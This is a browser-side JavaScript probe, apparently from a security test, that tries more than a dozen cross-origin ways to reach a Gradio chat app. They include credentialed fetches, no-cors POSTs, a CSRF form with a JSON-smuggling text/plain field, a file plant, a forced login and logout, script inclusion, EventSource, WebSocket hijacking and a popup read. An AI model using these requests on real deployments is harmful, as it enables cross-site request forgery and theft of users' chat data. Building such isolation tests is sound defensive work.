// Each tries to get at the chat in another way, and tells what it got.
async ({ at, password }) => {
  const got = {};
  const late = (ms) => new Promise((done) => setTimeout(() => done("nothing"), ms));
  const tried = async (name, attack) => {
    try {
      got[name] = String((await Promise.race([attack(), late(3000)])) || "nothing").slice(0, 80);
    } catch {
      got[name] = "nothing";
    }
  };
  const fetched = (path, more) => fetch(at + path, { credentials: "include", ...more });
  const blind = async (path, more) => (await fetched(path, { mode: "no-cors", ...more })).status;
  const loaded = (kind, set) =>
    new Promise((done) => {
      const part = document.createElement(kind);
      part.onload = () => done("loaded");
      part.onerror = () => done("nothing");
      Object.assign(part, set);
      document.body.append(part);
    });
  // A form cannot tell what it got; what came of it is looked for at the server.
  const form = (path, enctype, fields) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    const sending = document.createElement("form");
    Object.assign(sending, { method: "POST", action: at + path, enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("textarea");
      Object.assign(field, { name, value });
      sending.append(field);
    }
    document.body.append(frame, sending);
    sending.submit();
    return late(500);
  };
  const opened = () =>
    new Promise((done) => {
      const other = window.open(at + "/");
      setTimeout(() => {
        try {
          done(other.document.body.innerText);
        } catch {
          done("nothing");
        }
        other?.close();
      }, 800);
    });
  const streamed = (kind, address, heard) =>
    new Promise((done) => {
      const stream = new kind(address, kind === EventSource ? { withCredentials: true } : []);
      stream[heard] = () => done("heard");
      stream.onerror = () => (stream.close(), done("nothing"));
    });

  const told = JSON.stringify({ data: ["Who?"], fn_index: 0, session_hash: "tab" });
  const json = { method: "POST", headers: { "content-type": "application/json" }, body: told };
  for (const path of ["/", "/config", "/gradio_api/info", "/health"])
    await tried(`fetch ${path}`, async () => (await fetched(path)).text());
  for (const path of ["queue/join", "run/predict", "call/ask"].map((each) => `/gradio_api/${each}`)) {
    await tried(`json ${path}`, async () => (await fetched(path, json)).text());
    await tried(`plain ${path}`, () => blind(path, { method: "POST", body: told }));
    await tried(`form ${path}`, () => form(path, "text/plain", { [told.slice(0, -1) + ',"x":"']: '"}' }));
  }
  const files = new FormData();
  files.append("files", new File(["Planted words."], "planted.txt"));
  await tried("upload", () => blind("/gradio_api/upload", { method: "POST", body: files }));
  const ben = { username: "ben", password };
  await tried("login", () => form("/login", "application/x-www-form-urlencoded", ben));
  await tried("logout", () => blind("/logout"));
  await tried("beacon", async () => navigator.sendBeacon(`${at}/gradio_api/call/ask`, told) && "");
  await tried("image", () => loaded("img", { src: `${at}/favicon.ico` }));
  await tried("logo", () => loaded("img", { src: `${at}/static/img/logo.svg` }));
  await tried("script", () => loaded("script", { src: `${at}/config` }));
  await tried("style", () => loaded("link", { rel: "stylesheet", href: `${at}/theme.css` }));
  const events = `${at}/gradio_api/queue/data?session_hash=tab`;
  await tried("events", () => streamed(EventSource, events, "onmessage"));
  const socket = `${at.replace("http", "ws")}/gradio_api/queue/join`;
  await tried("socket", () => streamed(WebSocket, socket, "onopen"));
  await tried("window", opened);
  return got;
}
